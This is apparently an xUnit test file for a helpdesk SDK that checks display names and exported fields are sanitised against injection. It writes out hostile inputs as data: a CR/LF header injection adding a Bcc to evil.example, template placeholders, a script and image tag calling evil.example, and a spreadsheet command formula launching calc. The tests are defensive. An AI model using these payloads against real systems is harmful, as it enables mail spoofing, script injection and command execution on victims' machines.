using System.Text;
using System.Text.RegularExpressions;
using Helpdesk.Sdk.Exports;
using Helpdesk.Sdk.Testing;

namespace Helpdesk.Sdk.Attacks.Tests;

/// <summary>What stands in the directory is more than text: to a mail server, a template, a browser, a spreadsheet.</summary>
public sealed class TextAttacks(BothGrounds grounds)
{
    private static CancellationToken Token => TestContext.Current.CancellationToken;

    [Theory, OnGrounds]
    public async Task Cr_lf_in_display_name_into_mail_headers(GroundKind kind)
    {
        var ground = await grounds.OnAsync(kind);
        var person = await ground.PersonAsync();
        foreach (var hostile in new[] { "Anna\r\nBcc: all@evil.example\r\n\r\nhello", "Anna\nBcc: all@evil.example", "Anna\u2028Bcc: all@evil.example" })
        {
            await ground.SetAsync(person, "displayName", hostile);
            foreach (var mail in await MailsAsync(ground, person))
            {
                Assert.Equal([person.Mailbox], mail.To);
                var header = mail.Raw.ReplaceLineEndings("\n").Split("\n\n", 2)[0];
                Assert.DoesNotContain(header.Split('\n'), static l => l.StartsWith("Bcc:", StringComparison.OrdinalIgnoreCase));
                Assert.Contains(header.Split('\n'), static l => l.StartsWith("Subject:", StringComparison.Ordinal));
            }
            await ground.PassAsync(TimeSpan.FromHours(25));
        }
    }

    [Theory, OnGrounds]
    public async Task Template_injection_through_a_display_name(GroundKind kind)
    {
        var ground = await grounds.OnAsync(kind);
        var person = await ground.PersonAsync();
        await ground.SetAsync(person, "displayName", "{{code}} {{link}} {{password}} }}{{code}}{{");
        var mails = await MailsAsync(ground, person);
        var code = Assert.Single(mails, static m => m.Code is not null);
        Assert.Single(Regex.Matches(code.Body, code.Code!));
        Assert.All(mails.Where(m => m != code), static m => Assert.True(Regex.Count(m.Body, "https://desk.example/undo/") <= 1));
    }

    [Theory, OnGrounds]
    public async Task Html_injection_through_a_display_name(GroundKind kind)
    {
        var ground = await grounds.OnAsync(kind);
        var person = await ground.PersonAsync();
        await ground.SetAsync(person, "displayName", "<script>alert(1)</script><img src=//evil.example/x>\"' style=x");
        var mails = await MailsAsync(ground, person);
        Assert.All(mails, static m =>
        {
            Assert.NotNull(m.Html);
            Assert.DoesNotContain("<script", m.Html, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("<img", m.Html, StringComparison.OrdinalIgnoreCase);
        });
    }

    [Theory, OnGrounds]
    public async Task Export_with_formulas(GroundKind kind)
    {
        var ground = await grounds.OnAsync(kind);
        var (person, otto) = (await ground.AddAsync(ground.Staff), ground.Two.As(Ground.Name("otto"), "Free"));
        await ground.SetAsync(person, "displayName", "=cmd|'/c calc'!A0");
        await ground.SetAsync(person, "mail", "@SUM(1)@evil.example");
        await ground.SetAsync(person, "mobile", "-1+1");
        var users = await ExportAsync((writer) => otto.Users.ExportAsync(new UserExportRequest(new UserListRequest { Text = person.Name, Stores = [Ground.Store] }), writer, null, Token));
        Assert.Contains(person.Name, users, StringComparison.Ordinal);
        Assert.Contains("'=cmd|'/c calc'!A0", users, StringComparison.Ordinal);
        foreach (var line in Body(users).Split('\n'))
            Assert.DoesNotMatch("(^|,)\"?[=+@-]", line);
    }

    /// <summary>A code and the notice of a reset, as they arrived.</summary>
    private static async Task<IReadOnlyList<SinkMail>> MailsAsync(Ground ground, Person person)
    {
        ground.Mail.Clear();
        var olga = ground.Two.As(Ground.Name("olga"), "Desk");
        var session = await ground.ProveAsync(olga, person, HelpdeskAction.ResetPassword);
        Ground.Value(await Ground.ResetAsync(olga, person, $"New#Pass{Guid.NewGuid():N}"[..20], session));
        await ground.Two.Host.FinishAsync(Token);
        var mails = ground.Mail.Mails.Where(m => m.To.Any(t => t.Equals(person.Mailbox, StringComparison.OrdinalIgnoreCase))).ToList();
        Assert.True(mails.Count >= 2, "The person heard nothing.");
        return mails;
    }

    private static string Body(string csv) => csv[(csv.IndexOf('\n', StringComparison.Ordinal) + 1)..];

    private static async Task<string> ExportAsync<T>(Func<IExportWriter, Task<HelpdeskResult<T>>> export)
    {
        using var stream = new MemoryStream();
        await using (var writer = new CsvExportWriter(stream))
            Ground.Value(await export(writer));
        return Encoding.UTF8.GetString(stream.ToArray());
    }
}
